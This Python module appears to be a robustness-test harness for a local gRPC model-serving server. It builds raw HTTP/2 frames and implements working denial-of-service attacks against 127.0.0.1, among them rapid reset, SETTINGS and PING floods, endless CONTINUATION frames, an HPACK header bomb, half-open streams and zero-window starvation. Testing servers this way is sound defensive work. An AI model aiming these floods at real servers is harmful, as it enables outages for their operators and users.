"""What breaks HTTP/2's rules, byte by byte, or keeps them in order to do harm: floods, bombs, half-open connections.

Each attack writes to a socket that is connected, reads nothing unless it says so, and leaves the socket open.
"""

from __future__ import annotations

import random
import socket
from collections.abc import Callable, Iterable
from contextlib import suppress

Attack = Callable[[socket.socket, random.Random], None]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INFER = "/aclserve.v1.ModelService/Infer"
STREAM_INFER = "/aclserve.v1.ModelService/StreamInfer"
WATCH = "/grpc.health.v1.Health/Watch"
FLOOD = 20_000
"""Frames of a flood."""

PATIENCE_S = 1.0
"""How long a peer that does not read may block an attack before it gives up."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"", length: int | None = None) -> bytes:
    """One frame; `length` is what it says of its payload, where that is not the truth."""
    said = len(payload) if length is None else length
    return said.to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def header_block(path: str, more: Iterable[tuple[str, str]] = ()) -> bytes:
    """A request's headers in HPACK, as literals that are not indexed."""
    own = ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"), ("te", "trailers"))
    block = b""
    for name, value in (*own, ("content-type", "application/grpc"), *more):
        block += b"\x00" + _string(name) + _string(value)
    return block


def request(stream: int, path: str, more: Iterable[tuple[str, str]] = (), flags: int = END_HEADERS) -> bytes:
    """The headers of a call."""
    return frame(HEADERS, flags, stream, header_block(path, more))


def _string(text: str) -> bytes:
    """A string in HPACK: its length with a prefix of seven bits, and no Huffman code."""
    raw, left = text.encode(), len(text.encode())
    if left < 127:
        return bytes((left,)) + raw
    head, left = bytearray([127]), left - 127
    while left >= 128:
        head.append(left % 128 + 128)
        left //= 128
    head.append(left)
    return bytes(head) + raw


def hello(sock: socket.socket, settings: bytes = b"") -> None:
    """The proper beginning of a connection."""
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))


def no_preface(sock: socket.socket, dice: random.Random) -> None:
    """Another protocol, a preface cut short or with a wrong byte, or noise."""
    wrong = bytearray(PREFACE)
    wrong[dice.randrange(len(wrong))] ^= 1 << dice.randrange(8)
    beginnings = (
        b"GET / HTTP/1.1\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01",
        PREFACE[: dice.randrange(1, 24)],
        bytes(wrong),
    )
    sock.sendall(dice.choice((*beginnings, dice.randbytes(dice.choice((1, 9, 100, 70_000))))))


def bad_frames(sock: socket.socket, dice: random.Random) -> None:
    """Frames of any kind, flags, stream and length."""
    hello(sock)
    for _ in range(200):
        payload = dice.randbytes(dice.choice((0, 1, 4, 5, 8, 6, 40)))
        length = dice.choice((None, None, None, len(payload) + 1, 0xFFFFFF))
        sock.sendall(
            frame(dice.randrange(12), dice.randrange(256), dice.choice((0, 1, 2, 3, 1 << 31)), payload, length)
        )


def broken_rules(sock: socket.socket, dice: random.Random) -> None:
    """One frame that is well formed and not allowed where it comes."""
    hello(sock)
    wrong = (
        frame(DATA, 0, 0, b"data"),
        frame(DATA, 0, 99, b"data"),
        frame(HEADERS, END_HEADERS, 0, header_block(INFER)),
        frame(HEADERS, END_HEADERS, 2, header_block(INFER)),
        frame(HEADERS, END_HEADERS, 1, b"\xff\xff\xff\xff\xff\xff\xff\x7f"),
        frame(SETTINGS, 0, 1),
        frame(SETTINGS, 0, 0, b"12345"),
        frame(SETTINGS, ACK, 0, b"123456"),
        frame(SETTINGS, 0, 0, b"\x00\x04\xff\xff\xff\xff"),
        frame(SETTINGS, 0, 0, b"\x00\x05\x00\x00\x00\x01"),
        frame(PUSH_PROMISE, END_HEADERS, 1, b"\0\0\0\2" + header_block(INFER)),
        frame(PING, 0, 0, b"short"),
        frame(WINDOW_UPDATE, 0, 0, bytes(4)),
        frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 3,
        frame(CONTINUATION, END_HEADERS, 1, header_block(INFER)),
        request(1, INFER, flags=0) + frame(PING, 0, 0, bytes(8)),
        frame(RST_STREAM, 0, 5, bytes(4)),
        frame(GOAWAY, 0, 0, b"\x7f\xff\xff\xff\0\0\0\2"),
    )
    sock.sendall(dice.choice(wrong))


def bad_calls(sock: socket.socket, dice: random.Random) -> None:
    """Calls whose headers or whose message's frame are not gRPC's."""
    hello(sock)
    oversize = (0xFFFFFFFF).to_bytes(4, "big")
    stream = 1
    for more in ((("grpc-timeout", "-5S"),), (("grpc-timeout", "9" * 40),), (("grpc-encoding", "none-such"),), ()):
        for body in (b"\0" + oversize, b"\1\0\0\0\1x", b"\7\0\0\0\0", b"\0\0\0\0\5ab", b"\0"):
            sock.sendall(
                request(stream, dice.choice((INFER, STREAM_INFER)), more) + frame(DATA, END_STREAM, stream, body)
            )
            stream += 2


def settings_flood(sock: socket.socket, dice: random.Random) -> None:
    """Settings that want to be acknowledged, and nobody reads the answers."""
    hello(sock)
    _flood(sock, frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64"))


def ping_flood(sock: socket.socket, dice: random.Random) -> None:
    """The same with pings."""
    hello(sock)
    _flood(sock, frame(PING, 0, 0, dice.randbytes(8)))


def empty_flood(sock: socket.socket, dice: random.Random) -> None:
    """Empty data for a call that never ends."""
    hello(sock)
    sock.sendall(request(1, STREAM_INFER))
    _flood(sock, frame(DATA, 0, 1))


def rapid_reset(sock: socket.socket, dice: random.Random) -> None:
    """Calls that are cancelled as soon as they are made, thousands of them."""
    hello(sock)
    for first in range(1, 2 * 2000, 200):
        sock.sendall(
            b"".join(
                request(stream, INFER) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                for stream in range(first, first + 200, 2)
            )
        )


def endless_headers(sock: socket.socket, dice: random.Random) -> None:
    """Headers that go on and on."""
    hello(sock)
    sock.sendall(request(1, INFER, flags=0))
    more = b"\x00" + _string("padding") + _string("x" * 8000)
    _flood(sock, frame(CONTINUATION, 0, 1, more), 2000)


def header_bomb(sock: socket.socket, dice: random.Random) -> None:
    """A few bytes that name one indexed header of 4 KB a thousand times."""
    hello(sock)
    stored = header_block(INFER) + b"\x40" + _string("bomb") + _string("x" * 3900)
    sock.sendall(
        frame(HEADERS, END_HEADERS, 1, stored) + frame(HEADERS, END_HEADERS, 3, header_block(INFER) + b"\xbe" * 8000)
    )


def half_open(sock: socket.socket, dice: random.Random) -> None:
    """Calls that never come to an end, of a peer that says no more."""
    hello(sock)
    for stream in range(1, 200, 2):
        body = b"\0\0\0\1\0half"
        sock.sendall(request(stream, dice.choice((INFER, STREAM_INFER))) + frame(DATA, 0, stream, body))
    if dice.random() < 0.5:
        sock.shutdown(socket.SHUT_WR)


def no_window(sock: socket.socket, dice: random.Random) -> None:
    """Calls whose answers may not be sent: the windows are closed."""
    hello(sock, b"\x00\x04\x00\x00\x00\x00")
    for stream in range(1, 200, 2):
        sock.sendall(request(stream, WATCH) + frame(DATA, END_STREAM, stream, bytes(5)))


def _flood(sock: socket.socket, one: bytes, count: int = FLOOD) -> None:
    pack = one * 100
    for _ in range(count // 100):
        sock.sendall(pack)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        no_preface,
        bad_frames,
        broken_rules,
        bad_calls,
        settings_flood,
        ping_flood,
        empty_flood,
        rapid_reset,
        endless_headers,
        header_bomb,
        half_open,
        no_window,
    )
}


def attack(port: int, name: str, dice: random.Random) -> socket.socket | None:
    """Connects to a local port and attacks; the socket, still open. None where nobody listens."""
    try:
        sock = socket.create_connection(("127.0.0.1", port), PATIENCE_S)
    except OSError:
        return None
    with suppress(OSError):  # a peer that closes the connection, or reads no more, is right to
        ATTACKS[name](sock, dice)
    return sock
